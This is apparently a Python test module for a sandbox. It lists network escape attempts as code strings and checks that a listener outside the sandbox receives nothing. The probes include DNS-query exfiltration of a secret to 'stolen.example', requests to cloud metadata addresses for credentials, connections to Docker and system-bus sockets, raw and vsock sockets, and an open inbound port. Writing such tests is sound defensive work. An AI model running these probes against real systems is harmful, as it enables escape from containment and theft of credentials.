"""Ways to reach anything over a network, or over a socket that needs none."""

from __future__ import annotations

import socket
from pathlib import Path

from team.sandbox import CellResult
from tests.escape.attack import Attack, Judge, Local, No, Verdict, by_fact, by_its_word, got_through, held
from tests.escape.scene import Scene

DAEMONS = ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock")
DAEMONS += ("/run/dbus/system_bus_socket", "/run/systemd/private", "/tmp/.X11-unix/X0", "/run/user/1000/bus")


def nobody_came(name: str) -> Judge:
    """By the listener outside: nothing may arrive there."""

    def arrived(scene: Scene, result: CellResult) -> str | None:
        data = scene.listeners.reached(name)
        return None if data is None else f"the host's listener was reached ({data[:40]!r})"

    return by_fact(arrived)


def nobody_let_in(scene: Scene, result: CellResult) -> Verdict:
    """By a connection from outside to the port that the cell opened."""
    port = int(result.text.rsplit("LISTENING", 1)[1])
    try:
        socket.create_connection(("127.0.0.1", port), timeout=2).close()
    except OSError as error:
        return held(f"{type(error).__name__}: the port is open inside alone")
    return got_through(f"the host could connect to port {port} of the sandbox")


def _no_ipv6() -> str | None:
    try:
        socket.create_server(("::1", 0), family=socket.AF_INET6).close()
    except OSError as error:
        return f"this machine has no IPv6 loopback ({error.strerror})"
    return None


def _no_daemon() -> str | None:
    return None if any(Path(path).is_socket() for path in DAEMONS) else "no daemon with such a socket runs on this machine"


def _no_interface() -> str | None:
    return None if len(socket.if_nameindex()) > 1 else "this machine has no interface beside its loopback"


def _no_vsock() -> str | None:
    try:
        socket.socket(40, socket.SOCK_STREAM).close()
    except OSError as error:
        return f"this machine's kernel has no AF_VSOCK ({error.strerror})"
    return None


ATTACKS = (
    Attack(
        "tcp-v4",
        "Connect to a service on the host's loopback.",
        "attempt('connect', lambda: socket.create_connection(('127.0.0.1', $tcp4), timeout=2).send(b'hello'))",
        nobody_came("tcp4"),
        Local(),
    ),
    Attack(
        "tcp-v6",
        "Connect to a service on the host's IPv6 loopback.",
        "attempt('connect', lambda: socket.create_connection(('::1', $tcp6), timeout=2).send(b'hello'))",
        nobody_came("tcp6"),
        Local(missing=_no_ipv6),
    ),
    Attack(
        "udp",
        "Send a datagram to the host's loopback, connected and not.",
        """
def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b'hello', ('127.0.0.1', $udp))
        s.connect(('127.0.0.1', $udp))
        s.send(b'hello'); time.sleep(0.05); s.send(b'again')
attempt('send', send)
""",
        nobody_came("udp"),
        Local(),
    ),
    Attack(
        "dns",
        "Carry a secret out in the name that a DNS query asks for, by the resolver and by hand.",
        """
query = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + b'\\x06stolen\\x07example\\0' + struct.pack('>2H', 1, 1)
def ask(server, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.3); s.connect((server, port)); s.send(query); return s.recv(512)
if $sandboxed:  # outside, these would reach the network
    attempt('resolver', lambda: socket.getaddrinfo('stolen.example', 80))
    for server in ('127.0.0.53', '192.0.2.53', *$resolvers): attempt('query', lambda: ask(server, 53))
attempt('query', lambda: ask('127.0.0.1', $udp))
""",
        nobody_came("udp"),
        Local(),
    ),
    Attack(
        "metadata",
        "Ask the metadata services of clouds for credentials.",
        """
for address in ('169.254.169.254', '169.254.170.2', '100.100.100.200', 'fd00:ec2::254'):
    attempt(address, lambda: socket.create_connection((address, 80), timeout=1))
""",
        by_its_word,
        No("outside a cloud nobody has these addresses, and giving them to this machine would change it"),
    ),
    Attack(
        "internet",
        "Connect to public and private addresses.",
        """
for address in ('192.0.2.1', '10.0.0.1', '172.17.0.1', '192.168.0.1', '2001:db8::1'):
    attempt(address, lambda: socket.create_connection((address, 443), timeout=1))
""",
        by_its_word,
        No("tests reach no network"),
    ),
    Attack(
        "raw-sockets",
        "Make packets by hand: raw IP, and frames on an interface.",
        """
attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt('raw6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP))
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)))
""",
        by_its_word,
        Local(root=True),
    ),
    Attack(
        "abstract-socket",
        "Connect to a Unix socket of the host that has a name but no file.",
        """
def connect():
    with socket.socket(socket.AF_UNIX) as s: s.connect('\\0' + $abstract); s.send(b'hello')
attempt('connect', connect)
""",
        nobody_came("abstract"),
        Local(),
    ),
    Attack(
        "unix-socket",
        "Connect to a Unix socket of the host by its path.",
        """
def connect():
    with socket.socket(socket.AF_UNIX) as s: s.connect($service); s.send(b'hello')
attempt('connect', connect)
""",
        nobody_came("path"),
        Local(),
    ),
    Attack(
        "daemon-sockets",
        "Connect to Docker, containerd, the system bus, systemd or the X server.",
        f"for path in {DAEMONS!r}: attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path))",
        by_its_word,
        Local(root=True, missing=_no_daemon),
    ),
    Attack(
        "vsock",
        "Talk to the hypervisor or another virtual machine, whom no network namespace keeps away.",
        """
attempt('stream', lambda: socket.socket(40, socket.SOCK_STREAM))
attempt('datagram', lambda: socket.socket(40, socket.SOCK_DGRAM))
""",
        by_its_word,
        Local(missing=_no_vsock),
    ),
    Attack(
        "rare-families",
        "Make a socket of any of the families that are seldom used and seldom checked (AF_ALG, AF_KEY, AF_RDS, AF_TIPC, AF_XDP, ...).",
        """
for family in set(range(50)) - {1, 2, 10, 16}:
    for kind in (1, 2, 3, 5):
        attempt('family-%d' % family, lambda: socket.socket(family, kind))
for protocol in (2, 6, 9, 12, 15): attempt('netlink-%d' % protocol, lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol))
""",
        by_its_word,
        Local(),
    ),
    Attack(
        "way-in",
        "Open a port, so that somebody outside can come in.",
        "server = socket.create_server(('0.0.0.0', 0)); print('LISTENING', server.getsockname()[1])",
        nobody_let_in,
        Local(),
    ),
    Attack(
        "interfaces",
        "Learn about the host's network: names and addresses of its interfaces, neighbours, routes.",
        """
def interfaces():
    names = {name for _, name in socket.if_nameindex()} | {line.split(':')[0].strip() for line in open('/proc/net/dev') if ':' in line}
    # Kernels make these, and they are down, in every new network namespace.
    strange = [n for n in names if not n.startswith(('lo', 'sit', 'tunl', 'ip6', 'gre', 'erspan', 'ip_vti'))]
    return strange or fail(errno.ENOENT, 'no interface but the loopback')
def routes():
    return open('/proc/net/route').read().splitlines()[1:] or fail(errno.ENOENT, 'no route')
attempt('interfaces', interfaces); attempt('routes', routes)
""",
        by_its_word,
        Local(missing=_no_interface),
    ),
)
